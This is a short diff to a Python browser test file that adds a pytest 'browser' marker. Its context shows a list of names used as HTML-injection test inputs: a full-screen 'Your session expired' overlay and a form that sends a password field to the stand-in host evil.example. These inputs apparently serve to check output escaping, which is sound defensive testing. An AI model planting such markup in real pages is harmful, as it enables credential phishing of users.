@@ -15,6 +15,8 @@ from explorer.core.i18n import Language, t
 from explorer.models import loading
 from tests.browser.conftest import Open
 
+pytestmark = pytest.mark.browser
+
 NAMES = [
     "<h1 id=injected style='position:fixed;inset:0;z-index:99999'>Your session expired",
     "<form action='//evil.example'><input name=pw></form>",
